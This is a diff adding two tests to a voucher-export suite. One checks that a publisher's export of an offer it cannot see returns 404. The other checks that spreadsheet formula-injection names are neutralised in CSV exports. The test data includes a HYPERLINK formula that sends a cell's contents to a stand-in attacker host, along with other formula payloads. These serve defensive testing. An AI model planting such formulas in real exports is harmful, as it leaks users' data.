@@ -1,5 +1,7 @@
 import crypto from 'node:crypto';
 import { parse } from 'csv-parse/sync';
+import { sql } from 'kysely';
+import { csvText, csvTextSql } from '../../../platform/csv-writer';
 import { seedOffer, validOffer } from '../../setup/fixtures';
 import { eventually } from '../../setup/eventually';
 import { type Harness, harnessWithKeys } from '../../setup/harness';
@@ -142,5 +144,50 @@ describe('voucher exports', () => {
     const other = await h.key('submission');
     expect((await call('POST', `${SUB}/offers/${offerId}/voucher_exports`, other)).statusCode).toBe(404);
     expect((await call('POST', `${DIST}/offers/ofr_nothing/voucher_exports`, dist)).statusCode).toBe(404);
+  });
+
+  it("a publisher's export of an offer it cannot see is 404, as GET of that offer is (pending, or exclusive to another)", async () => {
+    const pending = await seedOffer(h, sub.clientId, { initial_quantity: 5 }, 'pending');
+    const insider = await h.client('distribution');
+    const theirs = await seedOffer(h, sub.clientId, {
+      initial_quantity: 5,
+      exclusivity: { exclusive: true, channels: [insider.clientId] },
+    });
+    for (const offerId of [pending, theirs]) {
+      const read = await call('GET', `${DIST}/offers/${offerId}`, dist);
+      expect(read.statusCode).toBe(404);
+      const started = await call('POST', `${DIST}/offers/${offerId}/voucher_exports`, dist);
+      expect({ offerId, status: started.statusCode, errors: started.json().errors }).toEqual({
+        offerId,
+        status: 404,
+        errors: read.json().errors,
+      });
+    }
+    // The publisher it is exclusive to exports it.
+    expect((await call('POST', `${DIST}/offers/${theirs}/voucher_exports`, insider.key)).statusCode).toBe(202);
+  });
+
+  it("a customer's name written as a formula comes out as text in the advertiser's export, as the one CSV writer writes it", async () => {
+    const offerId = await seedOffer(h, sub.clientId, { initial_quantity: 10 });
+    const names = ['=HYPERLINK("http://evil.example/?leak="&B2,"Click me")', '@SUM(A1:A9)', '+SUM(A1)', '-A1+B1'];
+    for (const name of names) {
+      const res = await call('POST', `${DIST}/orders`, dist, {
+        order: {
+          order_number: `inj-${Math.random().toString(36).slice(2)}`,
+          customer_name: name,
+          items: [{ offer_id: offerId, quantity: 1 }],
+        },
+      });
+      expect(res.statusCode).toBe(200);
+    }
+    const { rows } = await exportOf(SUB, sub.key, offerId);
+    expect(rows.map((r) => r.customer_name).sort()).toEqual(names.map((n) => `'${n}`).sort());
+    // Postgres writes the export's cells by the writer's own rule: the same bytes for every first character it guards.
+    for (const value of [...names, '\t=1', '\r=1', '\uFF20x', 'plain "quoted", text', '']) {
+      const { rows: cells } = await sql<{
+        cell: string;
+      }>`select ${sql.raw(csvTextSql('x.v'))} as cell from (select ${value}::text as v) x`.execute(h.services.db);
+      expect(`${cells[0].cell}\n`).toBe(csvText([[value]], { quoteText: true }));
+    }
   });
 });
